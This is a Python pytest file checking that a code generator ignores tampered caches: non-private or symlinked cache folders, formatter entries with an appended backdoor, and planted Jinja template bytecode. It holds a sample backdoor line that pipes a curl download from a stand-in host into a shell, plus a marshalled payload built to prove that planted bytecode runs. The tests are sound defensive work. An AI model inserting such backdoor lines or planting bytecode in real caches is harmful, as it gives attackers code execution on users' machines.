"""A cache can only make a run faster: what someone else put in it is never used.

Each test runs ``python -m codegen`` in a throwaway repo with ``CODEGEN_CACHE_DIR`` pointing at a
cache that was tampered with: a folder others own or can write, a formatter entry rewritten to
carry a backdoor, compiled template bytecode planted to run a command. The runs must write (or
``check`` must compare against) exactly what a run without any cache produces.
"""

from __future__ import annotations

import hashlib
import json
import marshal
import os
import pickle
import shutil
import stat
import subprocess
from pathlib import Path

import jinja2
import jinja2.bccache
import pytest
from helpers import FIXTURES, ROOT, SPECS, read_tree, run_codegen

from codegen import cache
from codegen.render import builtin_templates

# A template override: with one, every Python file goes through black and its cache (the
# built-in templates alone need neither).
CONFIG = """\
specs = ["reference"]
out = "sdk"
languages = ["python"]
templates = "templates"

[python]
package = "acme"
"""
SERVICE = "sdk/python/acme/catalog.py"
BACKDOOR = "import os; os.system('curl evil.example | sh')  # backdoor\n"
OTHER_UID = 65534  # nobody

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="giving a folder to another user needs root")


def _repo(tmp_path: Path, override: bool = True) -> Path:
    """A repo generating Python from the fixtures; with ``override``, through black (see CONFIG)."""
    repo = tmp_path / "repo"
    (repo / "reference").mkdir(parents=True)
    shutil.copyfile(SPECS / "index.mdx", repo / "reference" / "index.mdx")
    shutil.copytree(FIXTURES / "catalog", repo / "reference" / "catalog")
    config = CONFIG if override else CONFIG.replace('templates = "templates"\n', "")
    (repo / "codegen.toml").write_text(config, encoding="utf-8")
    (repo / "templates" / "python").mkdir(parents=True)
    shutil.copyfile(ROOT / "templates" / "python" / "client.py.j2", repo / "templates" / "python" / "client.py.j2")
    return repo


def _without_last_run(cache_dir: Path) -> None:
    """Forget the last run (codegen.runcache), so the next one formats and renders again, through
    the formatter and template caches these tests tamper with."""
    shutil.rmtree(cache_dir / "runs", ignore_errors=True)


def _run(repo: Path, cache_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return run_codegen(*args, cwd=repo, env={"CODEGEN_CACHE_DIR": str(cache_dir)})


def _clean_output(tmp_path: Path, override: bool = True) -> dict[str, bytes]:
    """What a run without any cache writes."""
    repo = _repo(tmp_path / "uncached", override)
    assert run_codegen("generate", "-q", cwd=repo, env={"CODEGEN_NO_CACHE": "1"}).returncode == 0
    return read_tree(repo / "sdk")


def _formatter_file(cache_dir: Path) -> Path:
    (found,) = cache_dir.glob("black-*.json")
    return found


def _backdoored(entries: dict[str, str]) -> dict[str, str]:
    """Every formatted text, under its own (correct) key, with a backdoor appended."""
    return {key: text + BACKDOOR for key, text in entries.items()}


def _stored_entries(cache_dir: Path, name: str) -> dict[str, str]:
    data = (cache_dir / name).read_bytes()
    entries: dict[str, str] = json.loads(data[32:])  # after the 32-byte HMAC
    return entries


def _store(cache_dir: Path) -> cache.Store:
    """The cache as codegen opens it, key and all: to write entries that do verify."""
    fd = os.open(cache_dir, os.O_RDONLY | os.O_DIRECTORY)
    return cache.Store(cache_dir, fd, (cache_dir / cache.KEY_FILE).read_bytes())


def test_a_new_cache_is_private_and_authenticated(tmp_path: Path) -> None:
    repo, cache_dir = _repo(tmp_path), tmp_path / "cache"
    assert _run(repo, cache_dir, "generate", "-q").returncode == 0
    # The built-in templates (no override) are the ones kept compiled.
    assert _run(_repo(tmp_path / "plain", override=False), cache_dir, "generate", "-q").returncode == 0
    assert cache_dir.stat().st_mode & 0o777 == 0o700
    files = [p for p in cache_dir.rglob("*") if p.is_file()]
    assert {p.name for p in files} >= {cache.KEY_FILE, _formatter_file(cache_dir).name}
    assert any(p.parent.name == "templates" for p in files), "no compiled templates cached"
    for path in files:
        assert path.stat().st_mode & 0o777 == 0o600, path
        assert path.stat().st_uid == os.geteuid(), path


@pytest.mark.parametrize("variant", ["plain JSON", "JSON after the old HMAC"])
def test_a_tampered_formatter_entry_is_used_by_neither_generate_nor_check(variant: str, tmp_path: Path) -> None:
    clean = _clean_output(tmp_path)
    repo, cache_dir = _repo(tmp_path), tmp_path / "cache"
    assert _run(repo, cache_dir, "generate", "-q").returncode == 0
    assert read_tree(repo / "sdk") == clean
    # Someone rewrites the entries (valid JSON, correct keys, the user's own file, mode 0600).
    formatted = _formatter_file(cache_dir)
    entries = _stored_entries(cache_dir, formatted.name)
    assert clean[SERVICE.removeprefix("sdk/")].decode() in entries.values()
    tampered = json.dumps(_backdoored(entries)).encode()
    formatted.write_bytes(tampered if variant == "plain JSON" else formatted.read_bytes()[:32] + tampered)

    # The same backdoor is committed, manifest updated: check must see it, not take the cache's word.
    original = clean[SERVICE.removeprefix("sdk/")]
    backdoored = original + BACKDOOR.encode()
    (repo / SERVICE).write_bytes(backdoored)
    manifest = repo / "sdk" / ".codegen-manifest"
    sha = hashlib.sha256
    manifest.write_text(manifest.read_text().replace(sha(original).hexdigest(), sha(backdoored).hexdigest()))
    _without_last_run(cache_dir)
    checked = _run(repo, cache_dir, "check")
    assert checked.returncode == 1, checked.stdout + checked.stderr
    assert f": {SERVICE}" in checked.stdout and f"\n-{BACKDOOR}" in checked.stdout
    assert "authentication failed" in checked.stderr

    shutil.rmtree(repo / "sdk")
    _without_last_run(cache_dir)
    generated = _run(repo, cache_dir, "generate", "-q")
    assert generated.returncode == 0, generated.stderr
    assert read_tree(repo / "sdk") == clean
    assert _run(repo, cache_dir, "check").returncode == 0


@needs_root
@pytest.mark.parametrize("how", ["owned by another user", "writable by others", "writable by the group"])
def test_a_cache_folder_that_is_not_private_is_ignored(
    how: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    clean = _clean_output(tmp_path)
    repo, cache_dir = _repo(tmp_path), tmp_path / "cache"
    assert _run(repo, cache_dir, "generate", "-q").returncode == 0
    # Entries that do verify (written with the folder's own key) but carry a backdoor...
    name = _formatter_file(cache_dir).name
    monkeypatch.setattr(cache, "writable", True)
    store = _store(cache_dir)
    store.write(name, json.dumps(_backdoored(_stored_entries(cache_dir, name))).encode())
    os.close(store.fd)
    # ...are used while the folder is private (so this test could fail)...
    shutil.rmtree(repo / "sdk")
    _without_last_run(cache_dir)
    assert _run(repo, cache_dir, "generate", "-q").returncode == 0
    assert (repo / SERVICE).read_text(encoding="utf-8").endswith(BACKDOOR)
    shutil.rmtree(repo / "sdk")

    # ...and not once someone else could have written them.
    if how == "owned by another user":
        for path in [cache_dir, *cache_dir.rglob("*")]:
            os.chown(path, OTHER_UID, OTHER_UID)
    else:
        cache_dir.chmod(0o777 if how == "writable by others" else 0o770)
    before = {p: p.stat().st_mtime_ns for p in cache_dir.rglob("*")}
    for command in ("generate", "check"):
        result = _run(repo, cache_dir, command)
        assert result.returncode == 0, result.stdout + result.stderr
        notes = [line for line in result.stderr.splitlines() if "ignoring the cache folder" in line]
        assert len(notes) == 1 and notes[0].startswith("codegen: note: "), result.stderr
        assert read_tree(repo / "sdk") == clean
    quiet = _run(repo, cache_dir, "check", "-q")  # a slower run is no error: -q says nothing of it
    assert quiet.returncode == 0 and "ignoring the cache folder" not in quiet.stderr, quiet.stderr
    assert {p: p.stat().st_mtime_ns for p in cache_dir.rglob("*")} == before, "an ignored cache was written"


def _template_key(language: str, name: str) -> tuple[str, str, str]:
    """codegen's and Jinja's own bytecode cache key, and the source checksum, of a built-in template."""
    folder = builtin_templates() / language
    filename = os.path.normpath(os.path.join(str(folder), name))
    source = (folder / name).read_text(encoding="utf-8")
    jinja_key = jinja2.BytecodeCache().get_cache_key(name, filename)
    ours = cache.template_key(builtin_templates(), name, filename)
    return ours, jinja_key, jinja2.BytecodeCache().get_source_checksum(source)


def test_planted_template_bytecode_is_never_run(tmp_path: Path) -> None:
    clean = _clean_output(tmp_path, override=False)
    repo, cache_dir, marker = _repo(tmp_path, override=False), tmp_path / "cache", tmp_path / "pwned"
    assert _run(repo, cache_dir, "generate", "-q").returncode == 0
    payload = compile(f"open({str(marker)!r}, 'w').write('ran')", "<planted>", "exec")
    for name in sorted(p.name for p in (builtin_templates() / "python").glob("*.j2")):
        key, jinja_key, checksum = _template_key("python", name)
        bucket = jinja2.bccache.bc_magic + pickle.dumps(checksum, 2) + marshal.dumps(payload)
        # What Jinja loads from this runs the payload (so this test could fail)...
        loaded = jinja2.bccache.Bucket(jinja2.Environment(), key, checksum)
        loaded.bytecode_from_string(bucket)
        assert loaded.code is not None
        exec(loaded.code, {})
        assert marker.exists()
        marker.unlink()
        # ...planted where codegen keeps compiled templates (with a 32-byte MAC it cannot forge;
        # the user's own file, mode 0600) and where Jinja's own file cache would keep it.
        for path, data in (
            (cache_dir / "templates" / key, bytes(32) + bucket),
            (cache_dir / "templates" / f"__jinja2_{jinja_key}.cache", bucket),
        ):
            path.write_bytes(data)
            path.chmod(0o600)

    _without_last_run(cache_dir)
    checked = _run(repo, cache_dir, "check", "-v")  # -v: the full path, which loads templates
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert "authentication failed" in checked.stderr
    assert not marker.exists(), "check ran planted bytecode"
    shutil.rmtree(repo / "sdk")
    generated = _run(repo, cache_dir, "generate", "-q")
    assert generated.returncode == 0, generated.stderr
    assert not marker.exists(), "generate ran planted bytecode"
    assert read_tree(repo / "sdk") == clean


def test_a_cache_folder_that_is_a_symlink_is_refused(tmp_path: Path) -> None:
    """Its target would be made private (0700) and written into: someone else's folder."""
    target = tmp_path / "someone-elses"
    target.mkdir(mode=0o755)
    target.chmod(0o755)
    link = tmp_path / "cache"
    link.symlink_to(target)
    repo = _repo(tmp_path)
    for command in ("generate", "check"):
        result = _run(repo, link, command)
        assert result.returncode == 0, result.stderr
        assert "ignoring the cache folder" in result.stderr and "symlink" in result.stderr, result.stderr
    assert list(target.iterdir()) == [], "the link's target was written into"
    assert stat.S_IMODE(target.stat().st_mode) == 0o755, "the link's target was made private"
